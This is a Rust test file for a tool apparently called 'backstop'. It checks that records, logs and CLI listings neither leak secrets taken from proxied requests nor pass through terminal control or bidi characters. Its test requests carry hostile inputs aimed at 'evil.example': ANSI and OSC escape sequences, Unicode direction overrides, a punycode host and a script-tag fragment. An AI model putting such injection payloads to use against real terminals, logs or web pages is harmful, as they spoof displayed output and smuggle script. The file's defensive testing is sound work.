//! What is written down and shown: no secrets, no queries, nothing that a terminal would obey.

use super::stage::{Stage, export};
use backstop_testkit::World;
use serde_json::json;

#[test]
fn records_logs_and_lists_show_no_secret_and_obey_nobody() {
    World::run(|world| {
        let stage = Stage::new(world);
        let host = "plain.weather.example";
        stage.say(&format!("GET http://{host}/p?token=queRysecret HTTP/1.1\r\nHost: {host}\r\nUser-Agent: agEntsecret\u{1b}[2J\r\n{{auth}}\r\n\r\n"), 1);
        stage.say(&format!("GET http://{host}/p?token=queRysecret HTTP/1.1\r\nHost: {host}\r\nUser-Agent: agEntsecret\r\nCookie: coOkiesecret\r\n{{auth}}\r\n\r\n"), 1);
        stage.say("GET http://us%1b:usErsecret@evil.example/x?queRysecret HTTP/1.1\r\nHost: evil.example\r\n{auth}\r\n\r\n", 1);
        stage.say("GET http://evil%1b[2J.example/%1b]0;x%07 HTTP/1.1\r\nHost: evil.example\r\n{auth}\r\n\r\n", 1);
        stage.say("CONNECT xn--a-ecp.evil.example:443 HTTP/1.1\r\nHost: xn--a-ecp.evil.example:443\r\n{auth}\r\n\r\n", 1);
        stage.say("A'\"`$|^~!#%&*+ http://evil.example/'%22%3Cscript%3E HTTP/1.1\r\nHost: evil.example\r\n{auth}\r\n\r\n", 1);
        stage.say_bytes(
            "GET http://evil.example/\u{202e}\u{9b}31m HTTP/1.1\r\nHost: evil.example\r\n\r\n"
                .as_bytes(),
            1,
        );
        stage.get("http://evil.example/refused?queRysecret");
        let reason = "because\u{1b}[2J\r\n\u{202e}of\u{9b}31m\u{7} it\u{2028}x";
        let body = json!({ "session": stage.session.id, "reason": reason });
        stage.backstop.ask("POST", "/v1/quarantines", Some(&body));
        let principal = json!({ "kind": "operator", "principal": "eve\u{1b}[2J\n", "for": "1h" });
        assert_eq!(stage.backstop.ask("POST", "/v1/tokens", Some(&principal)).status(), 422);
        let state = stage.backstop.state().display().to_string();
        let mut shown = vec![
            ("export".to_owned(), export(&stage.backstop)),
            ("log".to_owned(), stage.backstop.stderr()),
        ];
        for command in [
            vec!["alerts"],
            vec!["quarantine", "ls"],
            vec!["sessions", "ls"],
            vec!["holds", "ls"],
            vec!["tokens", "ls"],
            vec!["explain", "--last"],
        ] {
            let mut program = world.command(env!("CARGO_BIN_EXE_backstop"));
            program
                .args(["--state", &state, "--policy"])
                .arg(stage.backstop.policy())
                .args(&command);
            let output = program.output().unwrap();
            let text = String::from_utf8(output.stdout).unwrap()
                + &String::from_utf8_lossy(&output.stderr);
            shown.push((command.join(" "), text));
        }
        for (name, text) in &shown {
            assert!(text.len() > 20 || name == "log", "{name}: {text}");
            for secret in [
                "queRysecret",
                "agEntsecret",
                "coOkiesecret",
                "usErsecret",
                stage.session.token(),
                stage.backstop.token(),
                &stage.authorization()[6..],
            ] {
                assert!(!text.contains(secret), "{name} shows {secret}:\n{text}");
            }
            let bad = text.chars().find(|c| (c.is_control() && !matches!(c, '\n' | '\t')) || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}' | '\u{200e}' | '\u{200f}'));
            assert_eq!(bad, None, "{name}:\n{text}");
        }
        stage.nothing_left();
    });
}
